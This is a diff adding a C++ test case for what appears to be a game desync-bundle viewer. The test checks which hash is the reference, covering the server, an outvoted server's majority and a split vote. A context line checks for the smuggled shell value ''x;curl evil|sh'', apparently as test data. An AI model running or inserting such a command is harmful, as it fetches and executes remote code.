@@ -322,6 +322,34 @@ TEST_SUITE("core/keyframes") {
     CHECK(odd_data["difference"]["where"] != "none");
     const std::string commands = odd_data["commands"].dump();
     CHECK(commands.find("'x;curl evil|sh'") != std::string::npos);
+
+    // The reference the page colours against: never the side that is wrong. A client's bundle holds
+    // the client's own hashes in its replay; at the tick the server's is the reference. A bundle of
+    // an outvoted server: the majority's.
+    const auto reference_at = [](const Json& page, Tick t) {
+      for (const Json& point : page["reference"])
+        if (point[0] == t) return point[1].get<std::string>();
+      return std::string();
+    };
+    DesyncBundle mine = back;
+    mine.written_by = "client";
+    mine.replay.hashes.back() = client.hashes.back().second;  // the client recorded its own
+    mine.report = Json{{"tick", 120}, {"client_hash", hash_hex(client.hashes.back().second)},
+                       {"server_hash", hash_hex(server.hashes.back().second)}};
+    const Json mine_data = bundle_page_data(arena_module(), mine, "b.bundle");
+    CHECK(reference_at(mine_data, 120) == hash_hex(server.hashes.back().second));
+    CHECK(reference_at(mine_data, 119) == hash_hex(server.hashes[2].second));  // before it, the replay's
+    CHECK(mine_data["reference_name"] == "reference (the server at the tick)");
+    DesyncBundle outvoted = back;
+    outvoted.replay.hashes.back() = client.hashes.back().second;  // the server itself went wrong
+    outvoted.report = Json{{"tick", 120}, {"votes", Json::array({Json{{"hash", hash_hex(client.hashes.back().second)}, {"peers", {"server"}}},
+                                                                 Json{{"hash", hash_hex(server.hashes.back().second)}, {"peers", {"p0", "p1", "p2"}}}})}};
+    const Json outvoted_data = bundle_page_data(arena_module(), outvoted, "b.bundle");
+    CHECK(reference_at(outvoted_data, 120) == hash_hex(server.hashes.back().second));
+    CHECK(outvoted_data["reference_name"] == "reference (the majority at the tick)");
+    // A split vote names no reference of its own: the replay's stays.
+    outvoted.report["votes"][1]["peers"] = {"p0"};
+    CHECK(reference_at(bundle_page_data(arena_module(), outvoted, "b.bundle"), 120) == hash_hex(client.hashes.back().second));
   }
 
   TEST_CASE("a replay record of no known kind, or a kind without its table, is refused") {
